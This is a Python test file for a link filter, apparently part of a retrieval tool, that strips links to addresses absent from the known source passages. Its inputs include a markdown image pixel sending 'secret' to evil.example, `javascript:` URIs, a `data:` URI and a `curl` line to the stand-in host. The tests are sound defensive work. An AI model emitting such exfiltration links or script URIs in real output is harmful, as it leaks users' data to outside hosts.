import pytest
from hypothesis import given
from hypothesis import strategies as st

from graph_fakes import chunk
from obsirag.graphs.link_filter import drop_unknown_links

KNOWN = [
    chunk("See [docs](https://docs.example/a_(b)) and https://known.example/x."),
    chunk("p", source="https://page.example/"),
]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![pixel](https://evil.example/?q=secret) So [1].", "pixel So [1]."),
        ("[click](<https://evil.example>) here", "click here"),
        ("[![](https://evil.example/a.png)](https://evil.example)", "[]()"),
        ("![a [1] b](https://evil.example/a.png) [see [2]](javascript:x)", "a [1] b see [2]"),
        ("Go to https://evil.example/a, now.", "Go to , now."),
        ("<img alt=x src='https://evil.example/a.png'> done", " done"),
        ("![a][e]\n\n[e]: https://evil.example/q", "![a][e]\n\n"),
        ("![a](//evil.example/x) [b](javascript:alert(1)) ![c](data:image/png;base64,xx)", "a b c"),
        ("[docs](https://docs.example/a_(b)), https://known.example/x. <https://page.example/>", None),
        ("[there](#heading), [note](a/b.md), [1](x), `![x](https://evil.example)` and a = b", None),
        ("```\ncurl https://evil.example\n```\n", None),
    ],
)
def test_only_addresses_of_the_passages_remain(text, expected):
    assert drop_unknown_links(text, KNOWN) == (text if expected is None else expected)


@given(st.text('[]()!<>`\n a:/.="h', max_size=60))
def test_words_are_left_alone(text):
    assert drop_unknown_links(text, []) == drop_unknown_links(drop_unknown_links(text, []), []) or "://" in text
